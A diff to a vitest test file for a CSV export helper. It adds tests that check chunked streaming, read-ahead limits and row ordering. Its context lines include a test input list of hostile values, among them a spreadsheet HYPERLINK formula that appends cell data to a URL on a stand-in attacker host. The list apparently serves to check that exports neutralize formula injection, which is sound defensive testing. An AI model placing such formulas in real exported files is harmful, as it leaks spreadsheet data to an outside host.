@@ -1,6 +1,6 @@
 import { describe, expect, it } from "vitest";
 import { parse } from "csv-parse/sync";
-import { csvDownload, stampedCsvName } from "./csv";
+import { CHUNK_ROWS, csvDownload, stampedCsvName } from "./csv";
 
 const HOSTILE = [
   '=HYPERLINK("https://evil.example?"&A1,"open")',
@@ -39,6 +39,33 @@ describe("csvDownload", () => {
       expect(row).toEqual(["-12.50", "-7", "12.50", "ch_1", "ref-1", "a=b", "", "-0.5"]);
     });
   }
+});
+
+describe("csvDownload, streamed", () => {
+  it("reads about one chunk ahead of a reader that stops taking the file, not the whole source", async () => {
+    let produced = 0;
+    async function* rows() {
+      for (let i = 0; i < 200_000; i++) {
+        produced++;
+        yield [i, "x".repeat(60)];
+      }
+    }
+    const reader = csvDownload(rows(), ["n", "s"], "t.csv").body!.getReader();
+    await reader.read();
+    // Give a read-ahead every chance to run before looking.
+    await new Promise((resolve) => setTimeout(resolve, 300));
+    expect(produced).toBeLessThanOrEqual(3 * CHUNK_ROWS);
+    await reader.cancel();
+  });
+
+  it("writes the header once and every row, in order, across chunks; the header alone for no rows", async () => {
+    async function* rows(n: number) {
+      for (let i = 0; i < n; i++) yield [i];
+    }
+    const text = await csvDownload(rows(2 * CHUNK_ROWS + 7), ["n"], "t.csv").text();
+    expect(text.split("\n")).toEqual(["n", ...Array.from({ length: 2 * CHUNK_ROWS + 7 }, (_, i) => String(i)), ""]);
+    expect(await csvDownload(rows(0), ["n"], "t.csv").text()).toBe("n\n");
+  });
 });
 
 describe("stampedCsvName", () => {
